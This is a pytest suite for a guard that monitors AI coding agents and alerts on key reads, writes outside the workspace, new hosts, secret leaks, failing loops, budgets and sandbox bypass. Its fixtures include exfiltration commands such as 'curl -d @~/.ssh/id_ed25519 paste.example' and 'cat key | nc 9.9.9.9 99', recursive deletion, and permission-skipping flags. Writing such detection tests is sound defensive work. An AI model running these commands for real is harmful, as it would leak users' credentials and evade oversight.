"""Each rule of the guard, on what an agent does: the alert, its sentence, its chain, and what is no alert."""

from __future__ import annotations

from collections.abc import Sequence

import msgspec
import pytest
from msgspec.structs import replace

from agentsight_rx.events import (
    BlindSpot,
    Connection,
    Event,
    HostsKnown,
    HttpRequest,
    HttpResponse,
    Origin,
    ProcessExec,
    ProcessSeen,
    RulesLoaded,
    Usage,
)
from agentsight_rx.policy.rules.guard.file import built_in_rules, read_rules
from agentsight_rx.policy.rules.guard.values import Rules
from agentsight_rx.runtime.testing.scene import Scene
from agentsight_rx.store.fold.fold import FoldState
from agentsight_rx.view import AlertRow, AuditRow, CallRow, Fold, Row, RowGone
from tests.guarded import KEY, LABEL, TOKEN, WORKSPACE, Story


def guarded(events: Sequence[Event], rules: Rules | None = None, *, cost: float | None = None) -> list[AlertRow]:
    """The alerts in the end, in the order in which they began."""
    fold, rows = Fold(rules or built_in_rules(), priced=lambda _: cost), dict[str, AlertRow]()
    made: list[Row] = [row for event in events for row in fold.add(event)] + fold.finish()
    for row in made:
        if isinstance(row, AlertRow):
            rows[row.id] = row
        elif isinstance(row, RowGone):
            rows.pop(row.id, None)
    return list(rows.values())


def said(events: Sequence[Event], text: str = "") -> list[str]:
    return [row.sentence for row in guarded(events, read_rules(text, "guard.toml"))]


# -- reads-secret ------------------------------------------------------------------------------------------------------------


def test_a_program_of_a_tool_reads_a_key() -> None:
    story = Story()
    head = story.shell(f"head -c 400 {KEY}", "head", "-c", "400", KEY)
    story.does(head, "open", KEY)
    (row,) = guarded(story.events)
    assert (row.rule, row.do, row.name, row.count, row.target) == ("reads-secret", "warn", "a1", 1, KEY)
    assert row.sentence == "head, run by claude, read ~/.ssh/id_ed25519"
    assert (row.prompt, row.turn, row.tool) == ("deploy it", 1, f"Bash head -c 400 {KEY}")
    assert (row.proven, row.links, row.complete, row.workspace) == (3, 3, True, WORKSPACE)
    assert row.agent_pid == story.agent.pid
    assert row.command == "head -c 400 ~/.ssh/id_ed25519"
    assert row.evidence[0].startswith("audit-file-")


def test_the_agent_itself_reads_a_key_for_a_tool() -> None:
    story = Story()
    story.tool("Read", file_path=KEY)
    story.does(story.agent, "open", KEY)
    assert ["claude read ~/.ssh/id_ed25519"] == [row.sentence for row in guarded(story.events)]


def _at_home(story: Story, home: str, how: str) -> None:
    """The recording has this home from here on."""
    match how:
        case "its program":
            actor = story.agent.starts("cat")
            exec_of = story.scene.events[-1]
            assert isinstance(exec_of, ProcessExec)
            story.scene.events[-1] = replace(exec_of, home=home)
            assert actor.pid
        case "it ran before":
            story.scene.add(ProcessSeen(story.scene.origin(77), 1, 1, "/bin/x", ("x",), "/", home=home))
        case _:
            story.scene.add(HostsKnown(story.scene.origin(0), (), (home,)))


@pytest.mark.parametrize("how", ["its program", "it ran before", "passwd"])
@pytest.mark.parametrize("home", ["/srv/users/lena", "/var/lib/private/agent", "/"])
def test_a_key_in_any_home_is_a_key(home: str, how: str) -> None:
    story, key = Story(), f"{home.rstrip('/')}/.ssh/id_work"
    story.does(story.agent, "open", key)
    assert [] == guarded(story.events)
    _at_home(story, home, how)
    story.does(story.agent, "open", f"{key}2")
    story.does(story.agent, "open", f"{home.rstrip('/')}/.bashrc", flags=WRITES)
    first, second = guarded(story.events)
    assert ("reads-secret", f"{key}2") == (first.rule, first.target)
    assert ("writes-outside", f"{home.rstrip('/')}/.bashrc") == (second.rule, second.target)


def test_what_is_read_again_is_counted() -> None:
    story = Story()
    for _ in range(3):
        story.does(story.agent, "open", KEY)
    story.does(story.agent, "open", KEY, count=4)
    (row,) = guarded(story.events)
    assert (7, True, 4) == (row.count, row.last_timestamp_ms > row.timestamp_ms, len(row.evidence))


def test_evidence_is_bounded_and_keeps_the_newest() -> None:
    story = Story()
    made = [story.does(story.agent, "open", KEY) for _ in range(20)]
    (row,) = guarded(story.events)
    assert (20, 8) == (row.count, len(row.evidence))
    assert f"{made[-1].origin.time_ns:016x}" in row.evidence[-1]


@pytest.mark.parametrize("more", [{"error": 13}, {"flags": 0o200000}, {"flags": 0o10000000}])
def test_an_open_that_reads_nothing_is_no_reading(more: dict[str, int]) -> None:
    story = Story()
    story.does(story.agent, "open", KEY, **more)
    assert [] == guarded(story.events)


def test_what_no_agent_does_breaks_no_rule() -> None:
    scene = Scene()
    scene.process("cat", KEY).opens(KEY)
    assert [] == guarded(scene.events)


def test_a_client_that_a_program_without_a_name_starts_is_not_the_program_itself() -> None:
    """Calls of curl belong to the session of the script that started it; what curl does is still the deed of a command."""
    scene = Scene()
    agent = scene.process("python3", "bot.py", cwd=WORKSPACE)
    agent.asks("fetch it")
    curl = agent.starts("curl", "paste.example")
    origin = curl.origin(curl.connection)
    scene.add(HttpRequest(origin, 1, "GET", "/", "HTTP/1.1", (("host", "paste.example"),), end_ns=origin.time_ns))
    (row,) = guarded(scene.events)
    assert ("new-host", "curl, run by bot") == (row.rule, row.sentence[:16])


def test_a_known_agent_is_one_before_its_first_call() -> None:
    scene = Scene()
    agent = scene.process("claude", cwd=WORKSPACE)
    agent.starts("cat", KEY).opens(KEY)
    (row,) = guarded(scene.events)
    assert (None, "cat, run by claude, read ~/.ssh/id_ed25519", 1) == (row.session_id, row.sentence, row.proven)


def test_a_secret_that_is_renamed_keeps_its_name() -> None:
    story = Story()
    mv = story.shell(f"mv {KEY} x; cat x", "mv", KEY, "x")
    renamed = story.does(mv, "rename", KEY)
    story.does(story.agent.starts("cat", "x"), "open", renamed.target)
    rows = guarded(story.events, read_rules('[rule.writes-outside]\ndo = "off"', "guard.toml"))
    assert ["mv, run by claude, renamed ~/.ssh/id_ed25519 to ~/.ssh/id_ed25519.new, outside of ~/shop"] == [
        row.sentence for row in rows
    ]
    assert (2, KEY) == (rows[0].count, rows[0].target)


# -- writes-outside ----------------------------------------------------------------------------------------------------------

WRITES = 0o1 | 0o100


def test_a_file_outside_of_the_workspace_is_written() -> None:
    story = Story()
    sh = story.shell("echo >> ~/.bashrc")
    story.does(sh, "open", "/home/ada/.bashrc", flags=WRITES)
    story.does(sh, "open", f"{WORKSPACE}/a.py", flags=WRITES)
    story.does(sh, "open", "/tmp/a.py", flags=WRITES)
    (row,) = guarded(story.events)
    assert "echo, run by claude, wrote ~/.bashrc, outside of ~/shop" == row.sentence
    assert "/home/ada/.bashrc" == row.target


def test_files_of_one_folder_are_one_alert() -> None:
    story = Story()
    for name in ("a", "b/c", "d"):
        story.does(story.agent, "unlink", f"/srv/data/deep/{name}")
        story.does(story.agent, "mkdir", f"/home/ada/other/deep/{name}")
    assert {"/srv/data/": 3, "/home/ada/other/deep/": 3} == {row.target: row.count for row in guarded(story.events)}


@pytest.mark.parametrize(
    ("workspace", "path", "target"),
    [
        ("/srv/team/project/app", "/srv/team/other/x/y", "/srv/team/other/"),
        ("/srv/team/project/app", "/srv/team/project/other/x/y", "/srv/team/project/other/"),
        ("/srv/team/project/app", "/srv/team/project/x", "/srv/team/project/x"),
        ("/home/ada/a/b/c", "/home/ada/a/b/d/e", "/home/ada/a/b/d/"),
        ("/home/ada/a/b/c", "/home/ada/x/y/z", "/home/ada/x/y/"),
        ("/home/ada/a", "/home/eva/x/y/z", "/home/eva/x/y/"),
        ("/srv/team/project", "/srv/team", "/srv/team"),
    ],
)
def test_the_folder_of_an_alert_is_never_above_the_workspace(workspace: str, path: str, target: str) -> None:
    story = Story(cwd=workspace)
    story.does(story.agent, "unlink", path)
    (row,) = guarded(story.events)
    assert target == row.target
    assert not f"{workspace}/".startswith(row.target) or not row.target.endswith("/")


def test_another_working_tree_of_the_repository_belongs_to_the_workspace() -> None:
    story = Story()
    git = story.shell("git worktree add ~/fix", "git", "worktree", "add", "/home/ada/fix")
    for name in ("", "/.git", "/a.py"):
        story.does(git, "open" if name else "mkdir", f"/home/ada/fix{name}", flags=WRITES if name else 0)
    story.does(story.shell("rm ../fix/a.py"), "unlink", "/home/ada/fix/a.py")
    assert [] == guarded(story.events)
    story.does(story.agent, "unlink", "/home/ada/fixed/a.py")
    assert ["/home/ada/fixed/a.py"] == [row.target for row in guarded(story.events)]


def test_a_search_that_comes_by_a_secret_is_a_note_until_it_leaves() -> None:
    story = Story()
    grep = story.shell("grep -r token .", "grep", "-r", "token", ".")
    story.does(grep, "open", f"{WORKSPACE}/.env")
    story.does(grep, "open", f"{WORKSPACE}/a.py")
    (row,) = guarded(story.events)
    assert ("searched-secret", "note", "grep, run by claude, read ~/shop/.env") == (row.rule, row.do, row.sentence)
    story.result(f"./.env:token={TOKEN}")
    rows = {row.rule: row for row in guarded(story.events)}
    assert {"searched-secret", "secret-left"} == set(rows)
    assert rows["secret-left"].id == rows["searched-secret"].part_of


@pytest.mark.parametrize(("action", "verb"), [("rmdir", "removed"), ("truncate", "wrote"), ("mkdir", "made the folder")])
def test_each_change_has_its_verb(action: str, verb: str) -> None:
    story = Story()
    story.does(story.agent, action, "/srv/x")
    assert [f"claude {verb} /srv/x, outside of ~/shop"] == said(story.events)


def test_the_root_of_the_repository_is_the_workspace() -> None:
    story = Story()
    story.agent = story.scene.process("claude", cwd=f"{WORKSPACE}/deep/er")
    story.does(story.agent, "open", f"{WORKSPACE}/.git/HEAD")
    story.does(story.agent, "open", "/home/ada/.git/HEAD")
    story.does(story.agent, "open", f"{WORKSPACE}/.gitignore")
    story.does(story.agent, "open", f"{WORKSPACE}/a.py", flags=WRITES)
    story.does(story.agent, "open", "/home/ada/b.py", flags=WRITES)
    assert ["/home/ada/b.py"] == [row.target for row in guarded(story.events)]


def test_a_file_that_is_found_by_its_text_alone_is_not_whole() -> None:
    story = Story()
    story.does(story.agent, "unlink", "/srv/x", lexical=True)
    assert [False] == [row.complete for row in guarded(story.events)]


# -- hosts -------------------------------------------------------------------------------------------------------------------


def test_a_command_speaks_to_a_new_host() -> None:
    story = Story()
    story.sends(story.shell("curl paste.example"), "Paste.example:443")
    (row,) = guarded(story.events)
    assert ("new-host", "paste.example", "paste.example") == (row.rule, row.target, row.host)
    assert "curl, run by claude, sent 1.8 kB to paste.example, a host that no session in ~/shop has spoken to" == row.sentence


@pytest.mark.parametrize("host", ["pypi.org", "127.0.0.1:8080", "localhost", "[::1]:80", "api.anthropic.com", ""])
def test_a_known_host_and_this_machine_are_no_new_host(host: str) -> None:
    story = Story()
    story.sends(story.shell("curl it"), host)
    assert [] == guarded(story.events)


def test_the_second_session_of_a_workspace_knows_the_host() -> None:
    story = Story()
    story.sends(story.shell("curl paste.example"), "paste.example")
    other = story.scene.process("codex", cwd=WORKSPACE)
    other.asks("again")
    story.sends(other.starts("curl", "paste.example"), "paste.example")
    elsewhere = story.scene.process("codex", cwd="/home/ada/other")
    elsewhere.asks("once more")
    story.sends(elsewhere.starts("curl", "paste.example"), "paste.example")
    assert [("claude", 1), ("codex", 1)] == [(row.agent, row.count) for row in guarded(story.events)]


def test_the_agent_itself_speaks_to_a_host_that_a_tool_names() -> None:
    story = Story()
    story.sends(story.agent, "telemetry.example")
    story.tool("WebFetch", url="https://docs.example/a")
    story.sends(story.agent, "docs.example")
    assert ["docs.example"] == [row.host for row in guarded(story.events)]


def test_a_connection_that_was_not_read_is_judged_by_its_address() -> None:
    story = Story()
    nc = story.shell("nc 9.9.9.9 99")
    story.carries(nc, "9.9.9.9", 99)
    story.carries(nc, "9.9.9.9", 53)
    story.carries(nc, "127.0.0.1", 99)
    story.carries(nc, "8.8.8.8", 99, sent=0)
    story.carries(story.scene.process("nc"), "1.1.1.1")
    assert [("9.9.9.9", 1)] == [(row.host, row.count) for row in guarded(story.events)]


def test_a_process_whose_requests_were_read_is_judged_by_them() -> None:
    story = Story()
    curl = story.shell("curl paste.example")
    story.sends(curl, "paste.example")
    story.carries(curl, "9.9.9.9")
    assert ["paste.example"] == [row.host for row in guarded(story.events)]


def test_a_request_that_a_server_read_is_nothing_that_it_sent() -> None:
    story = Story()
    sent = story.sends(story.shell("server"), "paste.example")
    story.events[-1] = replace(sent, origin=replace(sent.origin, direction="in"))
    assert [] == guarded(story.events)


def test_connections_that_cannot_be_read() -> None:
    story = Story()
    curl = story.shell("uv sync")
    spot = BlindSpot(curl.origin(), curl.connection.start_ns, 2, 15_000, looks_like=("rustls", "rustls"))
    story.scene.add(spot)
    story.scene.add(replace(spot, origin=curl.origin(), size=20_000))
    (row,) = guarded(story.events)
    assert ("unread", 1) == (row.rule, row.count)
    assert "uv, run by claude, carried 15.0 kB, which looks like rustls, that could not be read" == row.sentence


# -- secrets that leave --------------------------------------------------------------------------------------------------------


def test_the_result_of_a_tool_that_read_a_key_leaves_in_a_call() -> None:
    story = Story()
    story.does(story.shell(f"head -c 9 {KEY}", "head", "-c", "9", KEY), "open", KEY)
    story.result(f"it says {LABEL}")
    read, left = guarded(story.events)
    assert ("secret-left", KEY, 2) == (left.rule, left.target, left.turn)
    assert "claude read ~/.ssh/id_ed25519, and a part of it left in call 2 to api.anthropic.com" == left.sentence
    assert (left.id, None) == (read.part_of, left.part_of)
    assert ["audit", "tool", "llm"] == [each.partition("-")[0] for each in left.evidence]
    assert 3 == left.proven


def test_a_result_without_a_secret_leaves_nothing() -> None:
    story = Story()
    story.does(story.shell(f"wc -c {KEY}"), "open", KEY)
    story.result("400")
    assert ["reads-secret"] == [row.rule for row in guarded(story.events)]


def test_the_result_of_reading_the_file_itself_is_the_file() -> None:
    story = Story()
    story.tool("Read", file_path=f"{WORKSPACE}/.env")
    story.does(story.agent, "open", f"{WORKSPACE}/.env")
    story.result("DEBUG=1")
    assert ["reads-secret", "secret-left"] == [row.rule for row in guarded(story.events)]


@pytest.mark.parametrize("body", [b"", b"key=" + LABEL.encode()])
def test_a_command_that_read_a_key_sends_bytes(body: bytes) -> None:
    story = Story()
    curl = story.shell(f"curl -d @{KEY} paste.example")
    story.does(curl, "open", KEY)
    story.sends(curl, "paste.example", body)
    rows = {row.rule: row for row in guarded(story.events)}
    left = rows["secret-left"]
    secret = ", with a secret in it," if body else ""
    assert (
        f"curl, run by claude, sent 1.8 kB to paste.example{secret} after the same command had read ~/.ssh/id_ed25519"
        == left.sentence
    )
    assert (3 if body else 2, "paste.example") == (left.proven, left.host)


def test_another_program_of_the_same_command_sends_bytes() -> None:
    story = Story()
    cat = story.shell(f"cat {KEY} | nc 9.9.9.9 99", "cat", KEY)
    story.does(cat, "open", KEY)
    nc = cat.starts("nc", "9.9.9.9", "99")
    nc.ends()
    story.carries(nc, "9.9.9.9", 99)
    assert "secret-left" in [row.rule for row in guarded(story.events)]


def test_another_command_that_sends_bytes_read_nothing() -> None:
    story = Story()
    story.does(story.shell(f"cat {KEY}"), "open", KEY)
    story.result("")
    story.sends(story.shell("curl paste.example"), "paste.example")
    assert ["reads-secret", "new-host"] == [row.rule for row in guarded(story.events)]


def test_an_agent_that_read_a_key_asks_its_model_as_ever() -> None:
    story = Story()
    story.does(story.agent, "open", KEY)
    story.agent.asks(*story.messages, "and now?")
    assert ["reads-secret"] == [row.rule for row in guarded(story.events)]


# -- prompts -----------------------------------------------------------------------------------------------------------------


def test_a_secret_in_a_prompt() -> None:
    story = Story(f"use {TOKEN} for it")
    (row,) = guarded(story.events)
    assert ("secret-in-prompt", TOKEN, "claude") == (row.rule, row.target, row.agent)
    assert f"claude sent a secret to a model, in a prompt: {TOKEN}" == row.sentence


def test_a_secret_in_the_result_of_a_tool() -> None:
    story = Story()
    story.shell("make keys")
    story.result(f"made {TOKEN} and {TOKEN}")
    assert [f"claude sent a secret to a model, in the result of Bash: {TOKEN}"] == said(story.events)


# -- loops, budgets, sandboxes -----------------------------------------------------------------------------------------------


def fails(story: Story, times: int, **more: str) -> None:
    for number in range(times):
        story.tool("Bash", command="pytest -x", description=f"try {number}", **more)
        story.result("boom", failed=True)


def test_the_same_command_fails_again_and_again() -> None:
    story = Story()
    fails(story, 2)
    assert [] == guarded(story.events)
    fails(story, 3)
    (row,) = guarded(story.events)
    assert ("loop", "pytest -x", 5) == (row.rule, row.target, row.count)
    assert "claude ran pytest -x five times, and it failed each time" == row.sentence


def test_a_success_between_ends_a_loop() -> None:
    story = Story()
    fails(story, 2)
    story.tool("Bash", command="pytest -x")
    story.result("passed")
    fails(story, 2)
    assert [] == guarded(story.events)


def test_a_session_is_over_its_budget() -> None:
    story = Story()
    story.agent.is_answered("one", usage=Usage(input=10, output=5))
    story.agent.asks("two")
    story.agent.is_answered("two", usage=Usage(input=10, output=5))
    story.agent.asks("three")
    story.agent.is_answered("three")
    (row,) = guarded(story.events, cost=15.0)
    assert ("budget", "the session", 1) == (row.rule, row.target, row.count)
    assert "claude has spent $30.00 and 2 calls in this session, $30.00 today" == row.sentence
    assert [] == guarded(story.events, cost=None)


@pytest.mark.parametrize(
    ("when", "hit"),
    [
        ("session.tokens >= 15", True),
        ("session.tokens > 15", False),
        ("session.calls >= 1", True),
        ("session.minutes > 1", False),
        ("subagent.calls > 0", False),
        ("day.cost > 0.4", True),
    ],
)
def test_a_budget_of_ones_own(when: str, hit: bool) -> None:
    story = Story()
    story.agent.is_answered("one", usage=Usage(input=10, output=5))
    rules = read_rules(f'[rule.budget]\nwhen = "{when}"', "guard.toml")
    assert hit is bool(guarded(story.events, rules, cost=0.5))


def test_an_answer_that_goes_on_counts_once() -> None:
    story = Story()
    answer = story.agent.is_answered("one", usage=Usage(input=10, output=5))
    story.events[-1] = replace(answer, complete=False, reason="timeout")
    story.scene.add(replace(answer, origin=story.agent.origin(story.agent.connection), revision=1))
    rules = read_rules('[rule.budget]\nwhen = "session.cost > 7 | session.tokens > 15 | session.calls > 1"', "guard.toml")
    assert [] == guarded(story.events, rules, cost=7.0)


@pytest.mark.parametrize(
    "asked",
    [{"dangerouslyDisableSandbox": True}, {"with_escalated_permissions": True}, {"sandbox_permissions": "require_escalated"}],
)
def test_a_tool_is_asked_for_without_its_sandbox(asked: dict[str, object]) -> None:
    story = Story()
    story.tool("Bash", command="make", **asked)
    (row,) = guarded(story.events)
    assert ("unsandboxed", "note") == (row.rule, row.do)
    assert "claude asked for Bash make without its sandbox" == row.sentence


# -- commands ----------------------------------------------------------------------------------------------------------------


def test_a_dangerous_command_by_the_words_of_the_program_itself() -> None:
    story = Story()
    story.shell("rm -rf $DIR", "rm", "-rf", "/home/ada/other")
    (row,) = guarded(story.events)
    assert ("dangerous-command", "/home/ada/other") == (row.rule, row.target)
    assert "rm, run by claude, deleted recursively outside of the workspace: ~/other" == row.sentence


def test_an_agent_that_starts_itself_again_was_without_its_sandbox_before() -> None:
    scene = Scene()
    agent = scene.process("node", "/usr/bin/gemini", "--yolo", cwd=WORKSPACE)
    itself = agent.starts("node", "--max-old-space-size=9000", "/usr/bin/gemini", "--yolo")
    itself.asks({"role": "user", "content": "go"})
    assert [] == guarded(scene.events)
    itself.starts("claude", "--dangerously-skip-permissions")
    assert ["dangerous-command"] == [row.rule for row in guarded(scene.events)]


def test_only_an_agent_that_an_agent_starts_is_without_its_sandbox() -> None:
    flag = "--dangerously-skip-permissions"
    scene = Scene()
    scene.process("claude", flag, cwd=WORKSPACE).starts("claude", flag, "-p", "x")
    (row,) = guarded(scene.events)
    assert f"claude {flag}" == row.target


def test_rules_of_ones_own_have_sentences() -> None:
    story = Story()
    curl = story.shell("make all")
    story.does(curl, "open", "/etc/hosts")
    text = (
        '[rule.a]\nwhen = "file.path = /etc/hosts"\n[rule.b]\nwhen = "process.program = make"\n'
        '[rule.c]\nwhen = "tool.name = Bash"\n[rule.d]\nwhen = "net.host ~= known*"'
    )
    story.sends(story.agent, "known.example", size=0)
    assert [
        "claude asked for Bash make all",
        "make, run by claude, ran make all",
        "make, run by claude, read /etc/hosts",
        "claude spoke to known.example, a host that no session in ~/shop has spoken to",
    ] == said(story.events, text)


# -- what it remembers -------------------------------------------------------------------------------------------------------


def test_numbers_are_in_the_order_of_time_and_a_late_event_moves_them() -> None:
    story = Story()
    story.does(story.agent, "open", KEY)
    story.scene.wait(0.5)
    story.does(story.agent, "open", "/home/ada/.netrc")
    first, second = story.events[-2:]
    late = [*story.events[:-2], second, first]
    expected = [(1, KEY), (2, "/home/ada/.netrc")]
    assert expected == sorted((row.number, row.target) for row in guarded(late))


def test_a_state_without_a_guard_is_an_empty_memory() -> None:
    story = Story()
    story.does(story.agent, "open", KEY)
    plain = Fold()
    for event in story.events[:-1]:
        plain.add(event)
    fold = Fold(built_in_rules())
    fold.restore(msgspec.msgpack.decode(msgspec.msgpack.encode(plain.snapshot()), type=FoldState))
    found = [row for row in fold.add(story.events[-1]) if isinstance(row, AlertRow)]
    assert ["claude read ~/.ssh/id_ed25519"] == [row.sentence for row in found]


def test_an_answer_whose_request_was_a_servers_is_counted_once() -> None:
    """The server's end of a call has a twin, which counts."""
    story = Story()
    client = Connection(story.agent.pid, 7, "TCP", 5)
    rows = [row for event in story.events for row in Fold(built_in_rules()).add(event)]
    assert any(isinstance(row, CallRow) and row.twin is None for row in rows)
    story.scene.add(HttpResponse(story.agent.origin(client), 1, 200, "", "HTTP/1.1", (), b"{}"))
    assert [] == guarded(story.events)


# -- rules that change while a capture runs ----------------------------------------------------------------------------------


def loads(story: Story, text: str, error: str = "") -> None:
    origin = story.scene.process("guard").origin()
    story.scene.add(RulesLoaded(origin, "guard.toml", text and read_rules(text, "guard.toml").text, "abcdef0123", error))


def lines_of(rows: Sequence[Row]) -> list[tuple[str | None, str | None]]:
    return [(row.status, row.summary) for row in rows if isinstance(row, AuditRow) and row.audit_type == "guard"]


def test_rules_hold_from_their_event_on_and_wrong_ones_change_nothing() -> None:
    story = Story()
    shell = story.shell("work")
    story.does(shell, "open", "/home/ada/shop/first")
    loads(story, '[rule.mine]\nwhen = "file.path ~= */shop/*"')
    story.does(shell, "open", "/home/ada/shop/second")
    loads(story, "", "guard.toml:3: it is wrong")
    story.does(shell, "open", "/home/ada/shop/third")
    loads(story, '[rule.mine]\nwhen = "file.path = /nothing"')
    story.does(shell, "open", "/home/ada/shop/fourth")
    fold = Fold(built_in_rules(), follows=True)
    rows = [row for event in story.events for row in fold.add(event)]
    assert ["second", "third"] == [row.target.rpartition("/")[2] for row in rows if isinstance(row, AlertRow)]
    loaded = ("success", "rules loaded from guard.toml, sha256 abcdef01")
    assert [loaded, ("failure", "guard.toml:3: it is wrong"), loaded] == lines_of(rows)
    assert lines_of(rows) == lines_of([row for event in story.events for row in Fold().add(event)])


def test_rules_that_come_late_hold_for_the_next_event_too() -> None:
    story = Story()
    shell = story.shell("work")
    loads(story, '[rule.mine]\nwhen = "file.path ~= */shop/*"')
    late = story.events.pop()
    for name in ("second", "third"):
        story.does(shell, "open", f"/home/ada/shop/{name}")
    *before, last = story.events
    fold = Fold(built_in_rules(), follows=True)
    rows = [row for event in (*before, late, last) for row in fold.add(event)]
    assert {"second", "third"} == {row.target.rpartition("/")[2] for row in rows if isinstance(row, AlertRow)}


@pytest.mark.parametrize(
    ("text", "error"), [("{", "Input data was truncated"), ('{"rules":[{"name":"x","when":"a"}]}', "unknown field 'a'")]
)
def test_rules_of_a_recording_that_cannot_be_used_are_named(text: str, error: str) -> None:
    fold = Fold(built_in_rules(), follows=True)
    ((status, summary),) = lines_of(fold.add(RulesLoaded(Origin(1, 0, wall_ns=1), "guard.toml", text)))
    assert ("failure", True) == (status, error in (summary or ""))
